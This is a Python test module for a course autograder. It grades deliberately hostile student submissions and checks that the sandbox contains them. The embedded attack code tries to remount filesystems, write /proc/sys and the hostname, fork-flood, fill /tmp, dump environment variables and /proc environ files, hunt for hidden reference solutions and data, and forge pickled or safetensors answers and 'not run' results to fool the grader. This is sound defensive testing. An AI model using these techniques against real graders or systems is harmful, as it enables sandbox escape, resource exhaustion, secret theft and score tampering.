"""The hostile-submission corpus: submissions that attack the grader, each graded by the real
grading path (`python -m autograder grade` / `grade-all` in a subprocess), and the verdict
asserted: the score of the tests concerned, their messages, nothing written outside the
working folder, repository files unchanged, the grader's output bounded, the batch row present.

The cases run in three ways (the `grader` fixture):

- `default`: the grader as the user running the tests (root here: bubblewrap, then setpriv to a
  uid of the grading's own);
- `user`: the grader as an ordinary user (uid 1234, `setpriv`): bubblewrap in a user namespace.
  Here the venv's interpreter lives in /root (mode 0700), which such a user cannot reach, so the
  grader runs in a private mount namespace whose /root is a 0755 tmpfs holding only that
  interpreter (the host's /root is untouched): a machine where the user can run the venv;
- `container`: the `user` layer (HW2_SANDBOX=user, no namespaces), in a copy of the repository
  whose private files, data (0700 copies) and /usr/share/datasets (o-rx while grading) are not
  readable by the child's uid.
`user` and `container` need root and are skipped otherwise.

The attacks are grouped so that each grading stays cheap and its verdicts clear, one attack per
test of the notebook q1.ipynb (questions 1.x: no data, no training) wherever it can be:

- `NOTEBOOK`: remounts and writes (class 1), /proc/sys, the hostname, the child's uid and
  capabilities (2), filling /tmp (11), a process flood (12);
- `SPOOFS`: snooping the reference and the data (4, 5), a spoofed "not run" (6), an environment
  secret (7), an oversized message and huge answers (9);
- `ANSWERS`: answers that are not data (9): a forged pickle that constructs an object, shared
  references, a huge repr, a forged safetensors header that lies, a sparse tensor;
- a class graded by grade-all (question 1.1): links and a FIFO (3), a classmate's files (8), zip
  bombs (10), non-UTF-8 output (13);
- `CNN` and `CAPTIONS` (2.2 and 3.1a, the default mode only: training is the dearest): the label
  lookup and the reference-caption decoder against tests that measure the returned weights, and
  the grader's stand-ins as the student's code sees them (4, 5).

Verdicts that reveal a grader bug are asserted last in their test (after every other verdict).
HW2_HOSTILE_KEEP=1 keeps the working folders, to read the results.
"""

import base64
import csv
import glob
import hashlib
import json
import os
import re
import shutil
import socket
import struct
import subprocess
import sys
import sysconfig
import tempfile
import threading
import time
import uuid
import zipfile
import zlib
from pathlib import Path

import pytest

from tests.conftest import ROOT, SOLUTION

pytestmark = pytest.mark.slow  # every case grades through the real grader

PYTHON = sys.executable
IS_ROOT = os.geteuid() == 0
USER_UID = 1234  # the ordinary user the `user` mode grades as (no account needed)
SITE = Path(sysconfig.get_paths()["purelib"])
SYDNEY = Path(os.environ.get("SYDNEY_DIR") or ROOT.parent / "shared" / "data" / "sydney-captions")
DATASETS = Path("/usr/share/datasets")
GRADED = ("q1.ipynb", "h2-q2.py", "decoder.py", "decoder_with_attention.py")
MB = 2 ** 20
TMP_MB = 512  # the child's /tmp (autograder/sandbox.py)
PROCESSES = 32  # the child's process limit (autograder/sandbox.py)
# runs the grader's own command line, then reports the grading process's peak memory
# (VmHWM, this process image's own peak: getrusage's ru_maxrss keeps the peak of the forked test runner across exec)
DRIVER = ("import re, sys\nfrom autograder.__main__ import main\ntry:\n    main(sys.argv[1:])\nfinally:\n"
          "    peak = re.search(r'VmHWM:\\s*(\\d+)', open('/proc/self/status').read()).group(1)\n"
          "    sys.stderr.write('\\nHW2-PEAK-RSS-KB %s\\n' % peak)\n")


# ---- how each mode runs the grader -------------------------------------------------------------
class Grader:
    """The real grader, run in one of the three modes."""

    def __init__(self, mode, root, env, prefix=(), uid=None, private=(), cache=None):
        self.mode, self.root, self.env, self.prefix, self.uid = mode, Path(root), env, list(prefix), uid
        self.private = [str(p) for p in private]  # what the child must not read, as this mode sets it up
        self.cache = Path(cache or ROOT / "data" / "cache")
        self._spaces = []

    def workspace(self):
        """A new folder for trees and outputs, usable by the grader's uid."""
        space = Path(tempfile.mkdtemp(prefix="hw2-hostile-", dir="/tmp"))
        os.chmod(space, 0o755)
        if self.uid is not None:
            os.chown(space, self.uid, self.uid)
        self._spaces.append(space)
        return space

    def cleanup(self):
        if os.environ.get("HW2_HOSTILE_KEEP") == "1":  # to read the results after a run
            print(f"\nkept ({self.mode}): {' '.join(map(str, self._spaces))}")
            return
        for space in self._spaces:
            shutil.rmtree(space, ignore_errors=True)

    def run(self, args, cwd=None, seconds=30, env=None, timeout=240, driver=True):
        """(completed process, wall seconds, peak RSS of the grading process in KB or None)."""
        environment = dict(self.env, HW2_TEST_SECONDS=str(seconds), **(env or {}))
        command = [*self.prefix, PYTHON, *(["-c", DRIVER] if driver else ["-m", "autograder"]), *map(str, args)]
        hidden = None
        if self.mode == "container" and DATASETS.is_dir():  # Debian's Fashion-MNIST, unreadable by the child's uid
            hidden = os.stat(DATASETS).st_mode & 0o7777
            os.chmod(DATASETS, hidden & ~0o007)
        start = time.time()
        try:
            done = subprocess.run(command, cwd=cwd or self.root, env=environment, capture_output=True, text=True,
                                  errors="replace", timeout=timeout)
        finally:
            if hidden is not None:
                os.chmod(DATASETS, hidden)
        peak = re.findall(r"HW2-PEAK-RSS-KB (\d+)", done.stderr)
        return done, time.time() - start, int(peak[-1]) if peak else None

    def grade(self, tree, out, only, seconds=30, env=None):
        done, seconds, peak = self.run(["grade", tree, "--out", out, "--only", only], seconds=seconds, env=env)
        assert done.returncode == 0, (done.stdout[-2000:], done.stderr[-3000:])
        assert len(done.stdout) + len(done.stderr) < 100_000, "the grader's own output is not bounded"
        return Graded(out), seconds, peak

    def host_uid(self, sandbox):
        """The host uid the child ran as, from results.json's sandbox description."""
        if "user namespace" in sandbox:
            return os.geteuid() if self.uid is None else self.uid
        return int(re.search(r"uid (\d+)", sandbox).group(1))


class Graded:
    """results.json and feedback.md of one grading."""

    def __init__(self, out):
        self.out = Path(out)
        self.text = (self.out / "results.json").read_text()
        self.results = json.loads(self.text)
        self.feedback = (self.out / "feedback.md").read_bytes().decode("utf-8")
        self.tests = {t["extra_data"]["id"]: t for t in self.results["tests"]}

    def output(self, test_id):
        return self.tests[test_id]["output"]

    def score(self, test_id):
        return self.tests[test_id]["score"]

    def sizes_bounded(self):
        for name in ("results.json", "feedback.md"):
            assert (self.out / name).stat().st_size < MB, f"{name} is {(self.out / name).stat().st_size:,} bytes"


def _copy_repository(into):
    """The repository's files (as in the working tree) in `into`, its private parts readable by root only."""
    names = subprocess.run(["git", "-C", str(ROOT), "ls-files", "-z"], capture_output=True, check=True,
                           text=True).stdout.split("\0")
    for name in filter(None, names):
        source = ROOT / name
        if source.is_file() and not source.is_symlink():
            (into / name).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(source, into / name)
    for folder in [into, *(p for p in into.rglob("*") if p.is_dir())]:
        os.chmod(folder, 0o755)
    for folder in ["solution", "tests", "autograder/checks"]:
        os.chmod(into / folder, 0o700)
    os.chmod(into / "autograder" / "calibration.json", 0o600)


@pytest.fixture(scope="module", params=["default", "user", "container"])
def grader(request):
    mode = request.param
    base = dict(os.environ, SYDNEY_DIR=str(SYDNEY), HW2_THREADS="1")
    base.pop("HW2_SANDBOX", None)
    base.pop("HW2_UNSANDBOXED", None)
    if mode != "default" and not IS_ROOT:
        pytest.skip(f"the {mode!r} mode switches uids (setpriv) or needs the `user` layer: the tests must run as root")
    if mode == "default":  # as root here: bubblewrap, then setpriv to a uid of the grading's own
        g = Grader(mode, ROOT, base, private=_private_of(ROOT, ROOT / "data" / "cache", SYDNEY))
    elif mode == "user":
        home = Path(tempfile.mkdtemp(prefix="hw2-hostile-home-", dir="/tmp"))
        os.chmod(home, 0o755)
        os.chown(home, USER_UID, USER_UID)
        env = dict(base, HOME=str(home), USER="hw2-grader", LOGNAME="hw2-grader")
        prefix = ["setpriv", f"--reuid={USER_UID}", f"--regid={USER_UID}", "--clear-groups", "--"]
        real = Path(os.path.realpath(PYTHON))
        if real.is_relative_to("/root"):  # the venv's interpreter is in root's home (0700) here
            prefix = _reachable_interpreter(real, home) + prefix
        g = Grader(mode, ROOT, env, prefix=prefix, uid=USER_UID,
                   private=_private_of(ROOT, ROOT / "data" / "cache", SYDNEY))
        g._spaces.append(home)
    else:
        top = Path(tempfile.mkdtemp(prefix="hw2-hostile-container-", dir="/tmp"))
        os.chmod(top, 0o755)
        copy = top / "repo"
        copy.mkdir()
        _copy_repository(copy)
        private = top / "private"  # the data, where only root can reach it
        private.mkdir(mode=0o700)
        os.chmod(private, 0o700)
        (private / "cache").mkdir()
        for name in ("FashionMNIST", "features"):
            (private / "cache" / name).symlink_to(ROOT / "data" / "cache" / name)
        (private / "sydney").mkdir()
        for name in ("dataset.json", "images"):
            (private / "sydney" / name).symlink_to(SYDNEY / name)
        env = dict(base, HW2_SANDBOX="user", PYTHONPATH=str(copy), HW2_CACHE_DIR=str(private / "cache"),
                   SYDNEY_DIR=str(private / "sydney"))
        g = Grader(mode, copy, env, private=_private_of(copy, private / "cache", private / "sydney"),
                   cache=private / "cache")
        g._spaces.append(top)
    yield g
    g.cleanup()


def _reachable_interpreter(real, scratch):
    """A command prefix giving what follows a private mount namespace where /root is a 0755 tmpfs
    holding only the interpreter's installation (its real path unchanged): as on a machine where
    the ordinary user can run the venv's Python. The host's /root is untouched."""
    top = Path("/root") / real.relative_to("/root").parts[0]  # e.g. /root/.pyenv
    keep = scratch / "interpreter"
    keep.mkdir()
    script = (f"mount --bind {top} {keep} && mount -t tmpfs -o mode=0755,size=1m hw2-root /root && "
              f"mkdir -p {top} && mount --bind {keep} {top} && exec \"$@\"")
    return ["unshare", "--mount", "--propagation", "private", "--", "sh", "-c", script, "sh"]


def _private_of(root, cache, sydney):
    """What the child must never read, as paths (globs) its code may look for."""
    return [root / "solution" / "decoder.py", root / "solution" / "h2-q2.py", root / "autograder" / "checks" / "q3.py",
            root / "autograder" / "calibration.json", root / "tests" / "conftest.py", Path(sydney) / "dataset.json",
            Path(cache) / "FashionMNIST" / "raw" / "*", Path(cache) / "features" / "*",
            DATASETS / "fashion-mnist" / "*", "/run/hw2/standins.py", "/tmp/hw2-standins-*/standins.py"]


# ---- trees ----------------------------------------------------------------------------------------
def _tree(folder, **files):
    """A student's tree: the reference's graded files, with `files` ({name: text}) on top."""
    folder.mkdir(parents=True)
    for name in GRADED:
        shutil.copy(SOLUTION / name, folder / name)
    for name, text in files.items():
        (folder / name.replace("_py", ".py").replace("h2_q2", "h2-q2")).write_text(text)
    for path in [folder, *folder.iterdir()]:
        os.chmod(path, 0o755 if path.is_dir() else 0o644)
    return folder


def _digest(paths):
    """{path: (sha256, mtime, mode)} of the files of `paths` that exist (never following links)."""
    found = {}
    for path in map(Path, paths):
        try:
            info = os.lstat(path)
        except OSError:
            continue
        if path.is_file() and not path.is_symlink():
            found[str(path)] = (hashlib.sha256(path.read_bytes()).hexdigest(), info.st_mtime_ns, info.st_mode)
    return found


def _processes_of(uid, marks=(), seconds=5):
    """The live processes (not zombies waiting for init) of `uid` whose command line holds one of
    `marks` (all, without marks), after waiting up to `seconds` for them to end. (Other gradings on
    the machine may use the same uid as soon as this one has released it.)"""
    deadline = time.time() + seconds
    while True:
        found = []
        for entry in os.listdir("/proc"):
            try:
                if entry.isdigit() and os.stat(f"/proc/{entry}").st_uid == uid:
                    status = Path(f"/proc/{entry}/status").read_text()
                    command = Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
                    if not re.search(r"^State:\s+Z", status, re.M) and (not marks or any(m in command for m in marks)):
                        found.append((entry, re.search(r"^Name:\s+(.*)$", status, re.M).group(1)))
            except (OSError, AttributeError):
                pass
        if not found or time.time() > deadline:
            return found
        time.sleep(0.2)


def _report(text, name):
    """The JSON a hostile submission put between <<<name and >>> in a message."""
    found = re.search(rf"<<<{name} (.*?)>>>", text, re.S)
    assert found, f"no {name} report in: {text[:1500]}"
    return json.loads(found.group(1))


# shared by the hostile submissions: what of a list of paths (globs) the child's code can read
VISIBLE = r'''
import glob as _glob, os as _os, sys as _sys


def _visible(paths, marker=None):
    """The paths (globs) the code can read or list: non-empty folders, readable files (with the
    marker when one is given)."""
    seen = []
    for pattern in paths:
        for path in (_glob.glob(pattern) if any(c in pattern for c in "*?[") else [pattern]):
            try:
                if _os.path.isdir(path):
                    if _os.listdir(path) and marker is None:
                        seen.append("listed " + path)
                    continue
                with open(path, "rb") as f:
                    data = f.read(1 << 20)
                if marker is None or marker.encode() in data:
                    seen.append("read " + path)
            except (OSError, ValueError):
                pass
    return seen

'''


# ---- 1, 2, 11, 12: the notebook: writes and remounts, /proc/sys and the hostname, /tmp, processes
NOTEBOOK = r'''
import ctypes, json, os, socket, subprocess, sys, tempfile, time

TOKEN, NEW_FILES, EXISTING = HOSTILE["token"], HOSTILE["new_files"], HOSTILE["existing"]
_DONE, _CREATED, _REFUSED = {}, [], {}  # _CREATED: in the child's view; the host is checked by the test


def _try(name, action, done=_DONE):
    try:
        result = str(action())[:60]
        if isinstance(done, list):
            done.append(result)
        else:
            done[name] = result
    except BaseException as error:
        _REFUSED[type(error).__name__] = _REFUSED.get(type(error).__name__, 0) + 1


def _run(*argv):
    done = subprocess.run(argv, capture_output=True, timeout=20)
    if done.returncode:
        raise OSError(done.returncode, done.stderr[-80:])
    return "ran " + " ".join(argv)


def _create(path):
    with open(path, "x") as f:
        f.write("hw2-hostile " + TOKEN)
    return "CREATED " + path


def _open_for_writing(path):  # opened for writing (never created), left unchanged: proof enough
    os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
    return "WRITABLE " + path


def _same_mode(path):
    os.chmod(path, os.stat(path).st_mode & 0o7777)
    return "CHMOD " + path


def _write(path, text):
    with open(path, "w") as f:
        f.write(text)
    return "WROTE " + path


def _mount_syscall():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"none", b"/usr", None, 0x20 | 0x1000, None) != 0:  # MS_REMOUNT | MS_BIND, read-write
        raise OSError(ctypes.get_errno(), "mount(2)")
    return "remounted /usr"


_try("remount /usr", lambda: _run("mount", "-o", "remount,rw", "/usr"))
_try("remount /", lambda: _run("mount", "-o", "remount,rw", "/"))
_try("mount(2) /usr", _mount_syscall)
_try("remount in a user namespace",
     lambda: _run("unshare", "-Urm", "sh", "-c", "mount -o remount,rw /usr && touch /usr/hw2-hostile-" + TOKEN))
for path in NEW_FILES:
    _try("create " + path, lambda path=path: _create(path), _CREATED)
for path in EXISTING + [__file__]:
    _try("write " + path, lambda path=path: _open_for_writing(path))
    _try("chmod " + path, lambda path=path: _same_mode(path))
_try("/proc/sys/kernel/hostname", lambda: _write("/proc/sys/kernel/hostname", "hw2-pwned"))
_try("sethostname", lambda: socket.sethostname("hw2-pwned"))
_try("hostname", lambda: _run("hostname", "hw2-pwned"))
_try("/proc/sys/vm/drop_caches", lambda: _write("/proc/sys/vm/drop_caches", "1"))
_try("/proc/sys/kernel/core_pattern",
     lambda: _write("/proc/sys/kernel/core_pattern", open("/proc/sys/kernel/core_pattern").read()))
with open(os.path.join(tempfile.gettempdir(), "hw2-hostile-" + TOKEN), "w") as f:  # allowed: the child's own
    f.write(TOKEN)  # temporary folder (bubblewrap: its /tmp; the user layer: its home)


def _identity():
    status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
    return {"uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid(), "groups": os.getgroups(),
            "CapEff": status["CapEff"].strip(), "CapPrm": status["CapPrm"].strip(),
            "NoNewPrivs": status.get("NoNewPrivs", "?").strip(), "hostname": socket.gethostname()}


def mlp_counts():  # 1.2: fails, with the report
    raise RuntimeError("<<<REPORT " + json.dumps({"identity": _identity(), "done": _DONE, "created": len(_CREATED),
                                                  "refused": _REFUSED}) + ">>>")


def attention_probabilities(X, W_Q, W_K):  # 1.3-attention-probabilities: 2 GB into its temporary folder
    written, error, chunk = 0, None, b"\0" * (32 << 20)
    try:
        for index in range(16):
            with open(os.path.join(tempfile.gettempdir(), f"hw2-fill-{TOKEN}-{index}"), "wb") as f:
                for _ in range(4):
                    f.write(chunk)
                    written += len(chunk)
    except OSError as caught:
        error = caught
    raise RuntimeError(f"<<<TMPFILL {json.dumps([written >> 20, type(error).__name__, str(error)[:80]])}>>>")


def bilinear_matrix(W_Q, W_K):  # 1.3-low-rank: a process flood
    forks, error = 0, None
    for _ in range(10_000):
        try:
            pid = os.fork()
        except OSError as caught:
            error = caught
            break
        if pid == 0:
            try:
                time.sleep(600)
            finally:
                os._exit(0)
        forks += 1
    spawned, spawn_error = 0, None
    for _ in range(200):
        try:
            subprocess.Popen(["sleep", "600"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            spawned += 1
        except OSError as caught:
            spawn_error = caught
            break
    flood = [forks, type(error).__name__, spawned, type(spawn_error).__name__]
    raise RuntimeError("<<<FLOOD " + json.dumps(flood) + ">>>")

# equivalent_head (1.3-equivalent-heads) and the functions of 1.1 stay correct: they keep their points
'''



def _only_the_attacks_fail(graded, every):
    """The notebook's five attacked tests failed with no points, equivalent_head kept its point, and the
    grading is complete: nothing "not run"."""
    hostile = ["1.1-output-sizes", "1.1-parameter-counts", "1.2-parameter-counts", "1.3-attention-probabilities",
               "1.3-low-rank"]
    assert all(graded.tests[t]["status"] == "failed" and graded.score(t) == 0 for t in hostile), every[:3000]
    assert graded.score("1.3-equivalent-heads") == 1 and graded.results["score"] == 1
    assert not any(t["extra_data"]["not_run"] for t in graded.tests.values())
    assert not graded.results["extra_data"]["incomplete"] and "INCOMPLETE" not in graded.feedback

def _notebook(config, code=NOTEBOOK):
    """The reference notebook with a last answer cell of the student's: `code`, after HOSTILE = config."""
    notebook = json.loads((SOLUTION / "q1.ipynb").read_text())
    source = f"HOSTILE = {config!r}\n" + code
    notebook["cells"].append({"cell_type": "code", "execution_count": None, "outputs": [], "source": source,
                              "metadata": {"nbgrader": {"grade": False, "grade_id": "hostile", "locked": False,
                                                        "schema_version": 3, "solution": True, "task": False}}})
    return json.dumps(notebook)


def test_writes_remounts_hostname_tmp_and_processes_are_contained(grader):
    """Classes 1, 2, 11, 12: every write outside the child's /tmp and every remount is refused and
    leaves the repository, the venv, the data and the system unchanged; /proc/sys and the hostname
    are out of reach; the child runs without uid 0 or capabilities; /tmp holds at most its size;
    processes are limited and none survives the grading; the correct answers keep their points."""
    space = grader.workspace()
    token = uuid.uuid4().hex[:12]
    out = space / "out"
    roots = sorted({ROOT, grader.root})
    new_files = [str(p) for root in roots for p in (
        root / f"hw2-hostile-{token}", root / "autograder" / f"hw2-hostile-{token}.py",
        root / "autograder" / "child" / f"hw2-hostile-{token}.py", root / "data" / f"hw2-hostile-{token}",
        root / "data" / "cache" / f"hw2-hostile-{token}", root / "solution" / f"hw2-hostile-{token}")]
    new_files += [str(SITE / f"hw2-hostile-{token}.pth"), f"/etc/hw2-hostile-{token}", f"/usr/hw2-hostile-{token}",
                  f"/usr/lib/hw2-hostile-{token}", str(space / f"hw2-hostile-{token}"),
                  str(space / "student" / f"hw2-hostile-{token}"), str(grader.cache / f"hw2-hostile-{token}")]
    existing = [str(p) for root in roots for p in (
        root / "autograder" / "child" / "runner.py", root / "autograder" / "calibration.json",
        root / "autograder" / "grade.py", root / "solution" / "decoder.py")]
    existing += [str(SITE / "torch" / "__init__.py"), str(SITE / "homework2.pth"), "/etc/hosts", "/etc/passwd",
                 str(grader.cache / "FashionMNIST" / "raw" / "t10k-labels-idx1-ubyte"),
                 str(space / "student" / "q1.ipynb")]
    tree = _tree(space / "student", **{"q1.ipynb": _notebook({"token": token, "new_files": new_files,
                                                               "existing": existing})})
    # the repository's own files may be edited by a developer meanwhile: for them, mode, owner and no token
    unstable = [p for p in existing if any(Path(p).is_relative_to(root) for root in roots)]
    stable = [p for p in existing if p not in unstable] + [str(p) for p in tree.iterdir()]
    before = _digest(stable), {p: (os.stat(p).st_mode, os.stat(p).st_uid) for p in unstable if os.path.exists(p)}
    hostname = socket.gethostname()
    try:
        graded, seconds, _ = grader.grade(tree, out, "1.1,1.2,1.3", seconds=40)
    finally:
        created = [p for p in new_files + [f"/tmp/hw2-hostile-{token}"] if os.path.lexists(p)]
        for path in created:
            os.unlink(path)
        if socket.gethostname() != hostname:
            socket.sethostname(hostname)
    assert not created, f"the submission created files outside its /tmp: {created}"
    assert socket.gethostname() == hostname
    assert _digest(stable) == before[0], "files outside the child changed"
    assert {p: (os.stat(p).st_mode, os.stat(p).st_uid) for p in unstable if os.path.exists(p)} == before[1]
    assert not [p for p in unstable if os.path.exists(p) and token.encode() in Path(p).read_bytes()]
    assert not glob.glob(f"/tmp/hw2-fill-{token}-*") + glob.glob(f"/tmp/hw2-child-*/home/hw2-fill-{token}-*"), (
        "the submission's temporary files are on the machine's /tmp")

    report = _report(graded.feedback, "REPORT")  # printed from a failing function: in the feedback
    assert report["done"] == {}, f"attacks that succeeded: {report['done']}"
    # (a user namespace's bubblewrap makes the folders above its binds on its own tmpfs, owned by the
    # child: files created there die with the sandbox; what reaches the host is checked above)
    assert sum(report["refused"].values()) + report["created"] == len(new_files) + 2 * len(existing) + 11
    identity = report["identity"]
    assert identity["uid"] != 0 and identity["euid"] != 0 and identity["gid"] != 0, identity
    assert identity["CapEff"] == identity["CapPrm"] == "0000000000000000", identity
    assert re.search(r'"CapEff": "0{16}"', graded.feedback)

    forks, _, spawned, _ = _report(graded.output("1.3-low-rank"), "FLOOD")
    assert forks + spawned < PROCESSES, f"{forks} forks and {spawned} processes"
    sandbox = graded.results["extra_data"]["sandbox"]
    described = grader.host_uid(sandbox)
    actual = described if "user namespace" in sandbox else identity["uid"]  # in a user namespace: 65534 inside
    marks = [str(space), "sleep 600"]  # the runner's command line names the student's tree
    for uid in {described, actual}:
        assert not _processes_of(uid, marks), f"processes of the child's uid {uid} left: {_processes_of(uid, marks, 0)}"

    # what the code deserves: 1.1 and equivalent_head are correct, the rest fails
    assert graded.score("1.1-output-sizes") == 2 and graded.score("1.1-parameter-counts") == 2
    assert graded.score("1.3-equivalent-heads") == 1, graded.output("1.3-equivalent-heads")
    for test_id in ("1.2-parameter-counts", "1.3-attention-probabilities", "1.3-low-rank"):
        assert graded.tests[test_id]["status"] == "failed" and graded.score(test_id) == 0
    assert graded.results["score"] == 5
    assert not graded.results["extra_data"]["unsandboxed"]
    graded.sizes_bounded()
    assert seconds < 90

    problems = []
    filling = graded.output("1.3-attention-probabilities")
    if f"wrote more than {TMP_MB} MB of files" not in filling:  # the user layer stops such a child; else /tmp refuses
        fill = _report(filling, "TMPFILL")
        if not (fill[0] <= TMP_MB and fill[1] == "OSError"):
            problems.append(f"the child wrote {fill[0]} MB to /tmp, more than the sandbox's {TMP_MB} MB, without an "
                            f"error")
    if actual != described:
        problems.append(f"results.json says the code ran as uid {described} ({sandbox}); it ran as uid {actual}")
    assert not problems, "\n".join(problems)


# ---- 5, 6, 7, 9: snooping the reference, "not run", a secret, oversized values (the notebook) ------
SPOOFS = VISIBLE + r'''
import io as _io, json as _json, os as _os, struct as _struct, time as _time, zipfile as _zipfile
import torch as _torch


def conv_output_size(*args, **kwargs):  # 1.1-output-sizes: an answer of 16 million objects, forged
    pickled = b"\x80\x02](" + b"K\x00" * 16_000_000 + b"e."
    buffer = _io.BytesIO()
    with _zipfile.ZipFile(buffer, "w", _zipfile.ZIP_STORED) as archive:  # as torch.save writes
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/version", "3\n")
    payload = buffer.getvalue()
    view = memoryview(_struct.pack(">Q", len(payload)) + payload)
    while view:  # straight to the runner's answer descriptor
        view = view[_os.write(int(_sys.argv[4]), view):]
    _time.sleep(120)


def conv_parameters(*args, **kwargs):  # 1.1-parameter-counts: a spoofed "not run"
    try:
        from autograder.checks import NotRun
    except Exception:
        class NotRun(Exception):
            pass
    print("NOT RUN (not your fault)")
    raise NotRun("NOT RUN (not your fault): the grader failed on this test; please tell your instructor")


def mlp_counts():  # 1.2: 100 MB of values
    return {"hidden": _torch.zeros(26_000_000), "output": 0, "total": 0}


def attention_probabilities(X, W_Q, W_K):  # 1.3-attention-probabilities: the environment, a 30 MB message
    print("<<<ENV", _json.dumps(dict(_os.environ)), ">>>")
    for path in _glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as f:
                print(path, f.read()[:200])
        except OSError:
            pass
    raise ValueError("x" * 30_000_000)


def bilinear_matrix(W_Q, W_K):  # 1.3-low-rank: the reference, the hidden checks, the data, the captions
    raise RuntimeError("<<<SNOOP " + _json.dumps(_visible(HOSTILE["private"])) + ">>>")

# equivalent_head stays correct: 1.3-equivalent-heads keeps its point
'''


def test_snooping_spoofing_secrets_and_oversized_values(grader):
    """Classes 5, 6, 7, 9 (what does not need a training): code that looks for the reference, the
    hidden checks, the calibration, the data and the reference captions ($SYDNEY_DIR/dataset.json)
    finds nothing; a "NOT RUN (not your fault)" exception is a failure; a secret of the grader's
    environment never reaches the results; a 30 MB message, a forged answer of 16 million objects and
    100 MB of values fail their tests and leave results.json and feedback.md small and the grading
    process's memory bounded; the correct function keeps its point."""
    space = grader.workspace()
    secret = f"s3cr3t-{uuid.uuid4().hex}"
    # the container mode cannot hide the shared, read-only original of Sydney-Captions: there, its copy
    private = grader.private + [f"/work/*/data/{SYDNEY.name}/dataset.json", str(SYDNEY / "dataset.json"),
                                "/work/*/*/dataset.json"] * (grader.mode != "container")
    tree = _tree(space / "student", **{"q1.ipynb": _notebook({"private": private}, SPOOFS)})
    graded, seconds, peak = grader.grade(tree, space / "out", "1.1,1.2,1.3", seconds=30,
                                         env={"HW2_TEST_SECRET": secret})

    every = graded.text + graded.feedback
    _only_the_attacks_fail(graded, every)
    # 6: the spoofed "not run" is a failure like any other
    spoofed = graded.output("1.1-parameter-counts")
    assert "NotRun" in spoofed and not spoofed.startswith("NOT RUN"), spoofed
    # 9: a forged answer of 16 million objects, 100 MB of values, a 30 MB message
    assert "cannot read" in graded.output("1.1-output-sizes"), graded.output("1.1-output-sizes")
    assert "more than 64 MB" in graded.output("1.2-parameter-counts"), graded.output("1.2-parameter-counts")
    message = graded.output("1.3-attention-probabilities")
    assert "ValueError" in message and "more characters" in message and len(message) < 10_000
    graded.sizes_bounded()
    assert peak is not None and peak < 1_500_000, f"the grading process peaked at {peak / 1024:.0f} MB"
    # 7: the environment the student's code sees holds none of the grader's variables
    env = _report(message.replace("\n", " "), "ENV")
    assert "HW2_TEST_SECRET" not in env and env.get("PATH"), env
    assert secret not in every and "HW2_TEST_SECRET" not in every
    # 5: nothing of the reference, the hidden checks, the data or the captions is readable
    assert _report(graded.output("1.3-low-rank"), "SNOOP") == [], graded.output("1.3-low-rank")
    assert seconds < 90


# ---- 9: answers that are not data (the notebook) ---------------------------------------------------
ANSWERS = r"""
import io as _io, json as _json, os as _os, pickle as _pickle, struct as _struct, sys as _sys, time as _time
import zipfile as _zipfile
import torch as _torch
import autograder.child.probes as _probes


def _send(payload):  # straight to the runner's answer descriptor, then wait to be stopped
    view = memoryview(_struct.pack(">Q", len(payload)) + payload)
    while view:
        view = view[_os.write(int(_sys.argv[4]), view):]
    _time.sleep(120)


class _Allocate:  # unpickled: bytearray(128 MiB), a constructor torch.load(weights_only=True) allowed
    def __reduce__(self):
        return bytearray, (128 * 2**20,)


def conv_output_size(*args, **kwargs):  # 1.1-output-sizes: an answer that constructs an object
    buffer = _io.BytesIO()
    with _zipfile.ZipFile(buffer, "w", _zipfile.ZIP_STORED) as archive:  # as torch.save writes
        archive.writestr("archive/data.pkl", _pickle.dumps({"value": [_Allocate()], "printed": ""}, protocol=2))
        archive.writestr("archive/version", "3\n")
    _send(buffer.getvalue())


def cnn_counts():  # 1.1-parameter-counts: six levels of 1,000 references to the level below
    value = [0]
    for _ in range(6):
        value = [value] * 1000
    return value


def mlp_counts():  # 1.2: a value whose repr is 10 MB, in the dict the check formats
    return {"hidden": ["x" * 250] * 40_000, "output": 0, "total": 0}


def bilinear_matrix(W_Q, W_K):  # 1.3-low-rank: a safetensors header that lies
    header = _json.dumps({"__metadata__": {"hw2": '{"dict": [["value", [{"tensor": 0}]], ["printed", ""]]}'},
                          "0": {"dtype": "F32", "shape": [2**20, 2**20], "data_offsets": [0, 2**42]}}).encode()
    _send(len(header).to_bytes(8, "little") + header + bytes(64))


_plain = _probes.plain


def _sparse_plain(value):  # a patched plain() sending what the format does not hold (from the second
    if isinstance(value, list) and value and isinstance(value[0], str) and value[0] == "SPARSE":  # probe on)
        return [_torch.eye(3).to_sparse()]
    return _plain(value)


_probes.plain = _sparse_plain


def attention_probabilities(X, W_Q, W_K):  # 1.3-attention-probabilities: a sparse tensor, through plain()
    return "SPARSE"

# equivalent_head stays correct: 1.3-equivalent-heads keeps its point
"""


def test_answers_that_are_not_data_fail_their_tests(grader):
    """Class 9, the answers themselves: a forged torch.save answer whose pickle constructs a 128 MiB
    bytearray, an answer of shared references (10^18 items as a tree), a value whose repr is 10 MB, a
    forged safetensors header that lies about its tensor, and a sparse tensor through a patched plain()
    each fail their own test with the plain message (typed as the student's: crashed, or the check's
    own failure), quickly; nothing is "not run", the grading completes, messages stay small and the
    grading process's memory near its normal peak (about 0.6 GB for these tests); the correct
    function keeps its point."""
    space = grader.workspace()
    tree = _tree(space / "student", **{"q1.ipynb": _notebook({}, ANSWERS)})
    graded, seconds, peak = grader.grade(tree, space / "out", "1.1,1.2,1.3", seconds=30)

    every = graded.text + graded.feedback
    _only_the_attacks_fail(graded, every)
    for test_id, words in [("1.1-output-sizes", "torch.save or pickle"), ("1.1-parameter-counts", "more than 50,000 values"),
                           ("1.3-attention-probabilities", "sparse"), ("1.3-low-rank", "data take")]:
        message = graded.output(test_id)
        assert "your code returned something the grader cannot read" in message and words in message, message
        assert graded.tests[test_id]["extra_data"]["reason"] == "crashed", graded.tests[test_id]
    assert graded.tests["1.1-parameter-counts"]["extra_data"]["seconds"] < 10  # refused, not walked
    shown = graded.output("1.2-parameter-counts")  # the check's own failure, its value shown bounded
    assert "mlp_counts() gives" in shown and "..." in shown and len(shown) < 1000, shown
    graded.sizes_bounded()
